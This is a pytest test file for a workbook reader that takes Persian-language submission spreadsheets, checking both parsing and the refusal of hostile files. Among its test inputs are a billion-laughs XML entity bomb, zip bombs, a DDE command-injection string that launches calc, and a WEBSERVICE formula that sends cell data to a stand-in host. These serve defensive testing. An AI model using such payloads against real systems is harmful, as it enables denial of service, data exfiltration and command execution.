"""What the reader of workbooks understands, what it refuses, and in which words."""

from __future__ import annotations

import io
import os
import random
import re
import zipfile
from collections.abc import Callable
from datetime import date, datetime, time
from functools import cache
from pathlib import Path
from tempfile import mkdtemp
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from generator.dataset.problems.kind import ERROR, WARNING
from generator.dataset.problems.printing import render
from generator.dataset.problems.problem import Audience, say
from generator.submissions.forms.submission import Submission
from generator.submissions.intake.importer import Intake
from generator.submissions.workbooks import workbook_help as words
from generator.submissions.workbooks import workbook_scan
from generator.submissions.workbooks.workbook_reader import MOST_ROWS, read_workbook, row_of
from tests.submissions import banks, workbooks
from tests.submissions.banks import WOMAN
from tests.submissions.workbooks import filled, opened, packed, parts, plain, saved, spoilt
from tests.support import BASE

CASES = Path(__file__).parent / "cases" / "workbook"
LOAN_ROW = {"county": "فسا", "agency": "فرمانداری شهرستان", "domain": "ادبی"}


@cache
def bank() -> Intake:
    return banks.small(Path(mkdtemp()))


def read(content: bytes, name: str = "fasa.xlsx") -> tuple[list[Submission], list[Any]]:
    return read_workbook(content, name, bank().package, bank().names())


def one(**more: Any) -> dict[str, Any]:
    """Return the values of the only row of a workbook, read without any problem."""
    submissions, problems = read(filled(bank(), [{**WOMAN, **more}]))
    assert not problems, [say(problem, Audience.DOOR) for problem in problems]
    return submissions[0].values


# --- what is understood ---------------------------------------------------------------------------------------------


def test_a_row_is_handed_over_as_it_was_typed() -> None:
    submissions, problems = read(filled(bank(), [WOMAN]))
    assert not problems
    (found,) = submissions
    assert found.resource == "women"
    assert found.source == "fasa.xlsx"
    assert found.values == {
        **WOMAN,
        "name": "مريم  كشاورز",
        "domains": ["صنایع دستی", "ادبی"],
        "achievements": [WOMAN["achievements"]],
        "sources": [WOMAN["sources"]],
        "nominations": [WOMAN["nominations"]],
    }
    assert set(found.places.values()) == {"4"}
    assert {"name", "county", "biography", "added", ""} <= set(found.places)


@pytest.mark.parametrize(
    ("typed", "text"),
    [
        (1399, "1399"),
        (1399.0, "1399"),
        ("۱۳۹۹", "۱۳۹۹"),
        ("1399/5/12 ", "1399/5/12"),
        (date(2020, 8, 2), "1399-05-12"),
        (datetime(2020, 8, 2, 14, 30), "1399-05-12"),
    ],
)
def test_dates_come_as_excel_left_them(typed: Any, text: str) -> None:
    assert one(death=typed)["death"] == text


@pytest.mark.parametrize(
    ("typed", "text"),
    [(5.0, "5"), (0.1, "0.1"), (12.5, "12.5"), (2e9, "2000000000"), ("۲٬۰۰۰", "۲٬۰۰۰"), (True, "بله"), (False, "خیر")],
)
def test_numbers_come_as_excel_left_them(typed: Any, text: str) -> None:
    submissions, problems = read(filled(bank(), [{"name": "الف", "members": typed}], "cooperatives"))
    assert not problems
    assert submissions[0].values["members"] == text


def test_lines_of_a_cell_are_items_and_empty_ones_are_none() -> None:
    found = one(sources="گزارش | ایسنا\r\n\n  کتاب | نشر نی  \n", biography="بند یکم\r\nبند دوم")
    assert found["sources"] == ["گزارش | ایسنا", "کتاب | نشر نی"]
    assert found["biography"] == "بند یکم\nبند دوم"


def test_a_photo_is_the_name_that_was_typed() -> None:
    assert one(photo="عکس مریم.JPG")["photo"] == "عکس مریم.JPG"


def test_empty_rows_between_and_the_example_are_left_out() -> None:
    rows = [WOMAN, {}, {"name": "  "}, {**WOMAN, "name": "زری"}]
    submissions, problems = read(filled(bank(), rows))
    assert not problems
    assert [row_of(submission) for submission in submissions] == [4, 7]


def _reorder(sheet: Any) -> None:
    last = sheet.max_column
    for row in range(1, sheet.max_row + 1):
        values = [sheet.cell(row, column).value for column in range(1, last + 1)]
        for column, value in enumerate(reversed(values), 1):
            sheet.cell(row, column).value = value


def _spell_headings_otherwise(sheet: Any) -> None:
    for cell in sheet[2]:
        if cell.value:
            cell.value = f" {cell.value.replace('ی', 'ي').replace('ک', 'ك').replace(chr(0x200C), ' ').rstrip('* ')}  *"


def _take_optional_out(sheet: Any) -> None:
    for title in ("زندگی", "دوره", "نام‌های دیگر"):
        sheet.delete_cols(workbooks.column_of(sheet, title))


def _add_columns(sheet: Any) -> None:
    sheet.insert_cols(1)
    sheet.insert_cols(5)
    sheet.cell(2, 1).value = "ردیف"
    sheet.cell(4, 1).value = 1
    sheet.cell(2, 40).value = "   "


def _take_notice_out(sheet: Any) -> None:
    sheet.delete_rows(1)


def _take_example_out(sheet: Any) -> None:
    sheet.delete_rows(3)


def _put_a_title_above(sheet: Any) -> None:
    sheet.insert_rows(1, 3)
    sheet["C1"] = "گزارش فرمانداری فسا"


def _rename_sheet(sheet: Any) -> None:
    sheet.title = "فسا"


@pytest.mark.parametrize(
    ("change", "row"),
    [
        (_reorder, 4),
        (_spell_headings_otherwise, 4),
        (_take_optional_out, 4),
        (_add_columns, 4),
        (_take_notice_out, 3),
        (_take_example_out, 3),
        (_put_a_title_above, 7),
        (_rename_sheet, 4),
    ],
)
def test_what_people_change_in_a_sheet_is_understood(change: Callable[[Any], None], row: int) -> None:
    expected = read(filled(bank(), [WOMAN]))[0][0].values
    submissions, problems = read(filled(bank(), [WOMAN], change=change))
    assert not problems, [say(problem, Audience.DOOR) for problem in problems]
    assert [submission.values for submission in submissions] == [expected]
    assert row_of(submissions[0]) == row


def test_a_workbook_of_somebody_else_is_known_by_its_headings() -> None:
    content = plain(
        [
            ["نام و نام خانوادگی", "شهرستان", "وضعيت زندگي", "حوزه‌ها", "دستاوردها", "منابع"],
            ["زری", "فسا", "زنده", "ادبی", "1399|کتاب", "x"],
        ]
    )
    submissions, problems = read(content)
    assert not problems
    assert (submissions[0].resource, submissions[0].values["name"], row_of(submissions[0])) == ("women", "زری", 2)


def test_a_heading_that_has_been_renamed_since_is_still_known() -> None:
    def rename(sheet: Any) -> None:
        sheet.cell(2, 1).value = "نام کامل *"
        form = sheet.parent["_form"]
        form.cell(3, 2).value = "نام کامل"
        assert form.cell(3, 1).value == "name"

    submissions, problems = read(filled(bank(), [WOMAN], change=rename))
    assert not problems
    assert submissions[0].values["name"] == "مريم  كشاورز"


def test_the_example_of_an_older_form_is_known_as_one() -> None:
    def age(sheet: Any) -> None:
        sheet.cell(3, 10).value = sheet.parent["_form"].cell(12, 3).value = "۱۳۱۵"
        assert sheet.parent["_form"].cell(12, 1).value == "birth"

    submissions, problems = read(filled(bank(), [WOMAN], change=age))
    assert not problems
    assert len(submissions) == 1


def test_the_machines_sheet_may_be_lost_and_notes_may_stand_in_others() -> None:
    def change(sheet: Any) -> None:
        del sheet.parent["_form"]
        notes = sheet.parent.create_sheet("یادداشت", 0)
        notes.append(["شهرستان", "تلفن زدم"])
        notes.append(["فسا", "نه"])

    submissions, problems = read(filled(bank(), [WOMAN], change=change))
    assert [(problem.code, problem.severity) for problem in problems] == [("workbook-sheet-unread", WARNING)]
    assert len(submissions) == 1


def test_people_on_a_sheet_that_is_not_read_are_told_of() -> None:
    def change(sheet: Any) -> None:
        sheet.parent.copy_worksheet(sheet).delete_rows(4, 9)  # an empty form says nothing
        sheet.parent.create_sheet("Sheet1").append(["شیرین کشاورز", "شیراز"])
        sheet.parent.create_sheet("09171234567").cell(7, 3).value = 1
        guide = sheet.parent["راهنما"]
        guide.cell(guide.max_row + 3, 1).value = "پروین کشاورز"

    submissions, problems = read(_sheet(change))
    assert len(submissions) == 1
    assert {(problem.code, problem.severity) for problem in problems} == {("workbook-sheet-unread", WARNING)}
    assert [(problem.found, problem.expected) for problem in problems][1:] == [("Sheet1", "۱"), ("۰۹…۶۷", "۷")]
    assert problems[0].found == "راهنما"


def test_comments_below_the_headings_are_counted_and_told_of() -> None:
    def change(sheet: Any) -> None:
        sheet["B2"].comment = Comment("روی سرستون", "کارشناس")
        sheet["B4"].comment = sheet["C4"].comment = Comment("متولد فسا", "کارشناس")
        sheet["D4"].comment = Comment("از خود فایل اکسل", words.AUTHOR)

    submissions, problems = read(_sheet(change))
    assert len(submissions) == 1
    assert [(problem.code, problem.found, problem.severity) for problem in problems] == [
        ("workbook-comments", "۲", WARNING)
    ]


def test_a_path_is_read_as_bytes_are(tmp_path: Path) -> None:
    path = tmp_path / "fasa.xlsx"
    path.write_bytes(filled(bank(), [WOMAN]))
    assert len(read_workbook(path, path.name, bank().package, bank().names())[0]) == 1


def test_good_rows_come_beside_faulty_ones() -> None:
    rows = [WOMAN, {**WOMAN, "name": "=HYPERLINK(A1)"}, {**WOMAN, "name": "زری"}]
    submissions, problems = read(filled(bank(), rows))
    assert [(row_of(one), set(one.unclear)) for one in submissions] == [(4, set()), (5, {"name"}), (6, set())]
    assert "name" not in submissions[1].values
    assert [(problem.line, problem.field) for problem in problems] == [(5, "name")]


def test_formulas_without_values_below_the_last_row_are_not_lost() -> None:
    submissions, problems = read(filled(bank(), [WOMAN, {}, {"name": "=A4"}]))
    assert [(row_of(one), set(one.unclear)) for one in submissions] == [(4, set()), (6, {"name"})]
    assert [(problem.code, problem.line) for problem in problems] == [("workbook-formula", 6)]


def test_as_many_rows_as_are_allowed_are_read() -> None:
    rows = [{"name": f"زن {number}"} for number in range(MOST_ROWS)]
    submissions, problems = read(filled(bank(), rows))
    assert not problems
    assert len(submissions) == MOST_ROWS


# --- what is refused ------------------------------------------------------------------------------------------------


def _typed(**more: Any) -> bytes:
    return filled(bank(), [{**WOMAN, **more}])


def _sheet(change: Callable[[Any], None]) -> bytes:
    return filled(bank(), [WOMAN], change=change)


def _set(row: int, column: int, value: Any) -> bytes:
    def change(sheet: Any) -> None:
        sheet.cell(row, column).value = value

    return _sheet(change)


def _twice(sheet: Any) -> None:
    sheet.cell(2, workbooks.column_of(sheet, "عنوان")).value = "شهرستان"


def _no_county(sheet: Any) -> None:
    sheet.delete_cols(workbooks.column_of(sheet, "شهرستان"))


def _unnamed(sheet: Any) -> None:
    sheet.cell(4, 30).value = "یادداشت من"


def _merged(sheet: Any) -> None:
    column = workbooks.column_of(sheet, "شهرستان")
    sheet.merge_cells(start_row=4, end_row=6, start_column=column, end_column=column)


def _copied(sheet: Any) -> None:
    sheet.cell(5, 1).value = "زری"
    again = sheet.parent.copy_worksheet(sheet)
    again.title = "فسا"


def _loans_headings(sheet: Any) -> None:
    for cell in sheet[2]:
        cell.value = None
    for column, question in enumerate(bank().questions("loans"), 1):
        sheet.cell(2, column).value = question.title


def _no_headings(sheet: Any) -> None:
    sheet.delete_rows(2)


def _error_cell(sheet: Any) -> None:
    sheet.cell(4, 2).value = "#REF!"
    sheet.cell(4, 2).data_type = "e"


def _picture_names(content: bytes) -> bytes:
    return spoilt(content, **{"xl/media/image1.png": b"\x89PNG"})


def _entities(sheet: bytes) -> bytes:
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">{levels}]>'
    return head.encode() + re.sub(rb"^<\?xml.*?\?>", b"", sheet).replace(b"<is><t>", b"<is><t>&e9;", 1)


def _false_size(content: bytes) -> bytes:
    """Return an archive whose sheet is a hundred times what it declares."""
    sheet = parts(content)[workbooks.SHEET]
    blown = spoilt(content, sheet=sheet + b" " * 40_000_000)
    with zipfile.ZipFile(io.BytesIO(blown)) as archive:
        size = archive.getinfo(workbooks.SHEET).file_size
    return blown.replace(size.to_bytes(4, "little"), len(sheet).to_bytes(4, "little"))


def _encrypted_part(content: bytes) -> bytes:
    raw = bytearray(content)
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(sign)
        raw[at + offset] |= 1
    return bytes(raw)


def _repeated_part(content: bytes) -> bytes:
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as archive, pytest.warns(UserWarning):
        archive.writestr(workbooks.SHEET, b"<worksheet/>")
    return target.getvalue()


def _replaced(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def change(part: bytes) -> bytes:
        assert old in part
        return part.replace(old, new)

    return change


def _repeated_text(content: bytes) -> bytes:
    """Return a workbook of few bytes whose cells name one long text over and over."""
    text = b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><si><t>" + b"a" * 30_000
    cells = b'<row><c t="s"><v>0</v></c></row>' * 100_000
    noise = os.urandom(20_000).hex().encode()  # so that no part shrinks too well
    return spoilt(
        content,
        sheet=_replaced(b"</sheetData>", cells + b"</sheetData><!--" + noise + b"-->"),
        **{"xl/sharedStrings.xml": text + b"</t></si></sst>"},
    )


def _many_sheets(content: bytes) -> bytes:
    book = opened(content)
    for number in range(12):
        book.create_sheet(f"S{number}").cell(1_000, 400).value = 1
    return saved(book)


def _many_strange(sheet: Any) -> None:
    for column in range(40, 400):
        sheet.cell(2, column).value = f"ستون {column}"


CONTENT_TYPES = "[Content_Types].xml"
HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty-file": lambda: b"",
    "text": lambda: "نام;شهرستان\nزری;فسا\n".encode(),
    "html": lambda: b"<html><table><tr><td>1</td></tr></table></html>",
    "xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
    "ods": lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}),
    "xlsb": lambda: packed({"xl/workbook.bin": b"", CONTENT_TYPES: b"<Types/>"}),
    "docx": lambda: packed({"word/document.xml": b"<a/>", CONTENT_TYPES: b"<Types/>"}),
    "broken-zip": lambda: _typed()[:-900],
    "half-zip": lambda: _typed()[:3000],
    "encrypted-part": lambda: _encrypted_part(_typed()),
    "repeated-part": lambda: _repeated_part(_typed()),
    "too-large": lambda: _typed() + bytes(10_000_001),
    "zip-bomb": lambda: spoilt(_typed(), **{"xl/sharedStrings.xml": b"<sst>" + b" " * 60_000_000 + b"</sst>"}),
    "zip-bomb-ratio": lambda: spoilt(_typed(), sheet=lambda sheet: sheet + b" " * 5_000_000),
    "zip-bomb-false-size": lambda: _false_size(_typed()),
    "many-parts": lambda: spoilt(_typed(), **{f"xl/part{number}.xml": b"<a/>" for number in range(1_100)}),
    "many-elements": lambda: spoilt(
        _typed(), **{"xl/styles.xml": b"<a>" + os.urandom(20_000).hex().encode() + b"<b/>" * 60_000 + b"</a>"}
    ),
    "deep-elements": lambda: spoilt(_typed(), **{"xl/styles.xml": b"<a>" * 5_000 + b"</a>" * 5_000}),
    "entities": lambda: spoilt(_typed(), sheet=_entities),
    "utf-16": lambda: spoilt(_typed(), sheet=lambda sheet: sheet.decode().encode("utf-16")),
    "bad-xml": lambda: spoilt(_typed(), sheet=_replaced(b"</sheetData>", b"</sheet>")),
    "bad-cell-name": lambda: spoilt(_typed(), sheet=_replaced(b'r="A4"', b'r="AAAA99999999"')),
    "far-cell": lambda: spoilt(
        _typed(), sheet=_replaced(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    ),
    "repeated-text": lambda: _repeated_text(_typed()),
    "many-wide-sheets": lambda: _many_sheets(_typed()),
    "many-arrays": lambda: spoilt(
        _typed(),
        sheet=_replaced(b"</sheetData>", b'<row><c><f t="array" ref="A9:B9"/></c></row>' * 1_100 + b"</sheetData>"),
    ),
    "many-strange-columns": lambda: _sheet(_many_strange),
    "far-formula": lambda: spoilt(
        _typed(), sheet=_replaced(b"</sheetData>", b'<row r="1048576"><c r="A1048576"><f>1</f></c></row></sheetData>')
    ),
    "lost-sheet": lambda: spoilt(_typed(), sheet=None),
    "lost-workbook": lambda: spoilt(_typed(), **{"xl/workbook.xml": None}),
    "macro": lambda: spoilt(_typed(), **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macro-type": lambda: spoilt(
        _typed(), **{CONTENT_TYPES: _replaced(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")}
    ),
    "macro-sheet": lambda: spoilt(_typed(), **{"xl/macrosheets/sheet1.xml": b"<a/>"}),
    "external-links": lambda: spoilt(_typed(), **{"xl/externalLinks/externalLink1.xml": b"<a/>"}),
    "connections": lambda: spoilt(_typed(), **{"xl/connections.xml": b"<a/>"}),
    "rows-5000": lambda: filled(bank(), [{"name": f"زن {number}"} for number in range(5_000)]),
    "no-rows": lambda: filled(bank(), []),
    "no-headings": lambda: _sheet(_no_headings),
    "other-workbook": lambda: plain([["درآمد", "هزینه"], [1, 2]], "بودجه"),
    "other-form": lambda: _sheet(_loans_headings),
    "two-sheets": lambda: _sheet(_copied),
    "renamed-column": lambda: _set(2, 5, "شهر"),
    "renamed-optional-column": lambda: _set(2, 7, "توانمندی خاص"),
    "strange-column": lambda: _set(2, 40, "کد پیگیری"),
    "repeated-column": lambda: _sheet(_twice),
    "missing-column": lambda: _sheet(_no_county),
    "unnamed-column": lambda: _sheet(_unnamed),
    "merged-cells": lambda: _sheet(_merged),
    "formula": lambda: _typed(ability='=WEBSERVICE("http://example.org/"&A4)', latin="=1+1"),
    "array-formula": lambda: spoilt(
        _typed(latin="=1+1"), sheet=_replaced(b"<f>1+1</f>", b'<f t="array" ref="B4:D4">1+1</f>')
    ),
    "error-cell": lambda: _sheet(_error_cell),
    "date-for-number": lambda: filled(bank(), [{"name": "الف", "members": date(2024, 4, 3)}], "cooperatives"),
    "date-for-year": lambda: _typed(death=date(1903, 10, 30)),
    "time": lambda: _typed(latin=time(1, 30)),
    "long-text": lambda: spoilt(_typed(ability="QQQ"), sheet=_replaced(b"QQQ", ("ب" * 40_000).encode())),
    "direction": lambda: _typed(name="زری \u202eرازی"),
    "control": lambda: spoilt(_typed(name="QQQ"), sheet=_replaced(b"QQQ", b"a_x0007_b")),
    "own-example": lambda: _typed(name="نمونه: زری"),
    "pasted-picture": lambda: _picture_names(_typed()),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_or_broken_workbook_gets_its_sentence(case: str, monkeypatch: pytest.MonkeyPatch) -> None:
    if case == "many-elements":  # as many as are too many take seconds to write and to read
        monkeypatch.setattr(workbook_scan, "_MOST_ELEMENTS", 50_000)
    submissions, problems = read(HOSTILE[case]())
    found = render(problems) + "\n"
    path = CASES / f"{case}.txt"
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(found, "utf-8")
    assert found == path.read_text("utf-8")
    assert problems
    if any(problem.severity == ERROR for problem in problems):
        assert all(one.unclear for one in submissions)


def _hide_row(sheet: Any) -> None:
    sheet.row_dimensions[4].hidden = True


def _hide_column(sheet: Any) -> None:
    sheet.column_dimensions[get_column_letter(workbooks.column_of(sheet, "توانمندی ویژه"))].hidden = True


def _hide_sheet(sheet: Any) -> None:
    sheet.sheet_state = "hidden"
    sheet.parent.active = 1


def _strike(sheet: Any) -> None:
    sheet.cell(4, workbooks.column_of(sheet, "توانمندی ویژه")).font = Font(strike=True)


def _strike_part(sheet: Any) -> None:
    text = CellRichText("بافنده ", TextBlock(InlineFont(strike=True), "و ریسنده"))
    sheet.cell(4, workbooks.column_of(sheet, "توانمندی ویژه")).value = text


@pytest.mark.parametrize(
    ("change", "code", "found"),
    [
        (_hide_row, "workbook-rows-hidden", "۴"),
        (_hide_column, "workbook-columns-hidden", "«توانمندی ویژه»"),
        (_hide_sheet, "workbook-sheet-hidden", "زنان توانمند"),
        (_strike, "workbook-struck", ""),
        (_strike_part, "workbook-struck", ""),
    ],
)
def test_what_nobody_sees_in_a_sheet_is_read_and_told(change: Callable[[Any], None], code: str, found: str) -> None:
    submissions, problems = read(_sheet(change))
    assert len(submissions) == 1 and submissions[0].values["ability"].startswith("باف")
    ((told, said),) = [(problem.code, problem.found) for problem in problems]
    assert (told, said) == (code, found)
    assert all(problem.severity != ERROR for problem in problems)


def test_every_golden_file_has_its_case() -> None:
    assert {path.stem for path in CASES.glob("*.txt")} == set(HOSTILE)


def test_many_formulas_are_named_without_delay() -> None:
    rows = [dict.fromkeys(WOMAN, "=1+1") for _ in range(400)]
    submissions, problems = read(filled(bank(), rows))
    assert all(one.unclear and not one.values for one in submissions)
    assert {problem.code for problem in problems} == {"workbook-formula"}
    assert len(problems) == 400 * len(WOMAN)


@pytest.mark.parametrize("name", ["a.xlsm", "A.XLSM", "a.xltm", "a.xlam"])
def test_the_name_of_a_macro_workbook_is_refused(name: str) -> None:
    assert [problem.code for problem in read(_typed(), name)[1]] == ["workbook-macro"]


@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-1"])
def test_a_text_that_looks_like_a_formula_is_a_text(text: str) -> None:
    def change(sheet: Any) -> None:
        cell = sheet.cell(4, workbooks.column_of(sheet, "توانمندی ویژه"))
        cell.value = text
        cell.data_type = "s"

    submissions, problems = read(_sheet(change))
    assert not problems
    assert submissions[0].values["ability"] == text


def test_hyperlinks_that_excel_makes_of_addresses_are_no_fault() -> None:
    def change(sheet: Any) -> None:
        sheet.cell(4, workbooks.column_of(sheet, "منابع")).hyperlink = "https://www.isna.ir/news/1"

    submissions, problems = read(_sheet(change))
    assert not problems
    assert len(submissions) == 1


def test_cells_with_style_alone_are_empty_however_far_they_are() -> None:
    content = spoilt(
        _typed(), sheet=_replaced(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>')
    )
    submissions, problems = read(content)
    assert not problems
    assert len(submissions) == 1


# --- any bytes whatever ---------------------------------------------------------------------------------------------


@settings(max_examples=30, deadline=None)
@given(st.binary(max_size=600))
def test_random_bytes_are_a_problem_and_no_error(raw: bytes) -> None:
    for content in (raw, b"PK\x03\x04" + raw, b"\xd0\xcf\x11\xe0" + raw):
        submissions, problems = read(content)
        assert not submissions
        assert all(say(problem, Audience.DOOR) for problem in problems)
        assert problems


@cache
def _whole() -> bytes:
    return _typed()


@settings(max_examples=40, deadline=None)
@given(st.integers(0, 2**32), st.integers(1, 12))
def test_a_workbook_with_bytes_changed_is_read_or_refused(seed: int, count: int) -> None:
    chance = random.Random(seed)
    raw = bytearray(_whole())
    for _ in range(count):
        raw[chance.randrange(len(raw))] = chance.randrange(256)
    _submissions, problems = read(bytes(raw))
    assert all(say(problem, Audience.DOOR) for problem in problems)


@settings(max_examples=40, deadline=None)
@given(st.integers(0, 2**32))
def test_a_workbook_with_changed_xml_is_read_or_refused(seed: int) -> None:
    chance = random.Random(seed)
    found = parts(_whole())
    name = chance.choice([name for name in found if name.endswith((".xml", ".rels")) and "docProps" not in name])
    raw = bytearray(found[name])
    for _ in range(chance.randrange(1, 4)):
        start = chance.randrange(len(raw))
        piece = bytes(raw[chance.randrange(len(raw)) :][: chance.randrange(1, 60)])
        raw[start : start + chance.randrange(0, 40)] = chance.choice([piece, b"", b'"', b"<c/>", b"9" * 30, b"&#0;"])
    found[name] = bytes(raw)
    _submissions, problems = read(packed(found))
    assert all(say(problem, Audience.DOOR) for problem in problems)


@settings(max_examples=30, deadline=None)
@given(
    st.lists(
        st.lists(st.one_of(st.none(), st.text(max_size=30), st.floats(), st.booleans(), st.datetimes()), max_size=6),
        max_size=6,
    )
)
def test_any_cells_are_read_or_refused(rows: list[list[Any]]) -> None:
    book = opened(_whole())
    for row in rows:
        clean = [
            openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
            for value in row
        ]
        book.worksheets[0].append(clean)
    try:
        content = saved(book)
    except (ValueError, OverflowError):
        return  # openpyxl itself cannot write it
    _submissions, problems = read(content)
    assert all(say(problem, Audience.DOOR) for problem in problems)


def test_nothing_is_written_while_reading(tmp_path: Path) -> None:
    before = sorted(path for path in BASE.rglob("*"))
    read(_typed())
    assert sorted(path for path in BASE.rglob("*")) == before
